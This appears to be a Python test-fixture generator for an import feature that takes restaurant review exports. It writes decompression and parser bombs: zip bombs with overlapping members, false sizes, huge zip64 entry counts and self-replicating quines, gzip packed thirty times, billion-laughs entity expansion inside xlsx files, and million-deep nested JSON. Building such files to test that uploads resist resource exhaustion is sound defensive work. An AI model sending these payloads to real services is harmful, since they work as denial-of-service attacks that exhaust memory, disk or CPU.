"""Files that are small and want to be large, or say that they are: bombs.py KIND FOLDER."""

import gzip
import io
import os
import struct
import sys
import zipfile
import zlib

from quine import quine

kind, folder = sys.argv[1:3]
ROW = b'{"id":"v1","user_id":"u1","restaurant_id":"r1","stars":5,"comment":"hello there"}\n'


def deflated(head, block=b"", times=0, end=b""):
    """What is raw in a zip file: `head`, `block` so many times and `end`, with checksum and size."""
    checksum, size = zlib.crc32(head), len(head) + len(block) * times + len(end)
    first = zlib.compressobj(6, zlib.DEFLATED, -15)
    again = zlib.compressobj(6, zlib.DEFLATED, -15)
    last = zlib.compressobj(6, zlib.DEFLATED, -15)
    packed = first.compress(head) + first.flush(zlib.Z_FULL_FLUSH) + (again.compress(block) + again.flush(zlib.Z_FULL_FLUSH)) * times
    for _ in range(times):
        checksum = zlib.crc32(block, checksum)
    return packed + last.compress(end) + last.flush(), zlib.crc32(end, checksum), size


def archive(members):
    """Of (name, packed, checksum, size) and, where the data are another member's, their place."""
    data, directory = bytearray(), bytearray()
    for name, packed, checksum, size, *place in members:
        at = place[0] if place else len(data)
        if not place:
            data += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, checksum, len(packed), min(size, 0xFFFFFFFF), len(name), 0) + name + packed
        extra = struct.pack("<HHQ", 1, 8, size) if size >= 0xFFFFFFFF else b""
        directory += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, checksum, len(packed), min(size, 0xFFFFFFFF),
                                 len(name), len(extra), 0, 0, 0, 0, at) + name + extra
    return bytes(data + directory) + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(directory), len(data), 0)


def wide(entries, size, place):
    """The end of a zip64 file that says so."""
    return (struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, entries, entries, size, place) + struct.pack("<IIQI", 0x07064B50, 0, place + size, 1)
            + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 65535, 65535, 0xFFFFFFFF, 0xFFFFFFFF, 0))


def workbook(sheet=b"", strings=b"<sst><si><t>a</t></si></sst>", sheets=1):
    office = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    relations = b"<Relationships>" + b"".join(
        b'<Relationship Id="%s" Type="%s/%s" Target="%s"/>' % (key, office, kind, target) for key, kind, target in
        ((b"b", b"officeDocument", b"xl/workbook.xml"), (b"s", b"worksheet", b"worksheets/sheet1.xml"), (b"t", b"sharedStrings", b"sharedStrings.xml"))
    ) + b"</Relationships>"
    cells = b"".join(b'<c t="inlineStr"><is><t>%s</t></is></c>' % name for name in (b"id", b"restaurant_id", b"stars", b"comment"))
    text = b'<c t="s"><v>0</v></c>' * 2 + b'<c><v>4</v></c><c t="s"><v>0</v></c>'
    parts = {
        b"[Content_Types].xml": b"<Types/>", b"_rels/.rels": relations, b"xl/_rels/workbook.xml.rels": relations, b"xl/sharedStrings.xml": strings,
        b"xl/workbook.xml": b'<workbook xmlns:r="%s"><sheets>' % office
        + b"".join(b'<sheet name="S%d" sheetId="%d" r:id="s"/>' % (number, number + 1) for number in range(sheets)) + b"</sheets></workbook>",
        b"xl/worksheets/sheet1.xml": sheet or b"<worksheet><sheetData><row>%s</row><row>%s</row></sheetData></worksheet>" % (cells, text),
    }
    return archive([(name, *deflated(part)) for name, part in parts.items()])


def laughs(root):
    """Entities of entities, which would be ten billion."""
    names = b"abcdefghijk"
    entities = b"".join(b'<!ENTITY %c "%s">' % (names[n + 1], (b"&%c;" % names[n]) * 10) for n in range(10))
    return b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">' + entities + b"]>" + root


def zeros():
    return "bomb.zip", archive([(b"reviews.ndjson", *deflated(ROW, b"\0" * (1 << 20), 1200))])


def short():
    packed, checksum, _ = deflated(ROW, b" " * (1 << 20), 200)
    return "bomb.zip", archive([(b"reviews.ndjson", packed, checksum, len(ROW))])


def long():
    packed, checksum, _ = deflated(ROW)
    return "bomb.zip", archive([(b"reviews.ndjson", packed, checksum, 1 << 40)])


def overlap():
    member = deflated(ROW, b"\0" * (1 << 20), 20)
    return "bomb.zip", archive([(b"reviews.ndjson", *member)] + [(b"r%d.ndjson" % number, *member, 0) for number in range(2000)])


def entries():
    one = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0) + b"a"
    return "bomb.zip", b"PK\3\4" + one * 120_000 + wide(120_000, len(one) * 120_000, 4)


def directory():
    return "bomb.zip", b"PK\3\4" + wide(1 << 62, 1 << 62, 4)[:-42] + struct.pack("<IIQI", 0x07064B50, 0, 4, 1) + wide(1, 1, 1)[-22:]


def nested():
    name, data = "reviews.ndjson", ROW
    for _ in range(30):
        file = io.BytesIO()
        with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as inner:
            inner.writestr(name, data)
        name, data = "a.zip", file.getvalue()
    return "bomb.zip", data


def disguised():
    """An archive of archives, none of which has the name of one."""
    data = ROW
    for _ in range(30):
        file = io.BytesIO()
        with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as inner:
            inner.writestr("reviews.ndjson", data)
        data = file.getvalue()
    return "bomb.zip", data


def itself():
    """An archive of itself, to any depth."""
    return "bomb.zip", quine(b"bomb.zip")


def unnamed():
    """An archive of itself, whose member has the name of an export."""
    return "bomb.zip", quine(b"reviews.ndjson")


def packed():
    """Packed thirty times over."""
    data = ROW
    for _ in range(30):
        data = gzip.compress(data, mtime=0)
    return "reviews.ndjson.gz", data


def lines():
    """Packed lines, none of which is a record."""
    return "reviews.ndjson.gz", gzip.compress(b"x\n" * 300_000, mtime=0)


def laughing():
    return "book.xlsx", workbook(sheet=laughs(b'<worksheet><sheetData><row><c t="inlineStr"><is><t>&k;</t></is></c></row></sheetData></worksheet>'))


def sharedlaughs():
    return "book.xlsx", workbook(strings=laughs(b"<sst><si><t>&k;</t></si></sst>"))


def sheets():
    return "book.xlsx", workbook(sheets=100_000)


def depth():
    return "reviews.ndjson", ROW + b'{"id":"v2","restaurant_id":"r1","stars":4,"x":' + b"[" * 1_000_000 + b"]" * 1_000_000 + b"}\n" + b'{"a":' * 1_000_000 + b"\n"


name, data = (laughing if kind == "laughs" else globals()[kind])()
with open(os.path.join(folder, name), "wb") as file:
    file.write(data)
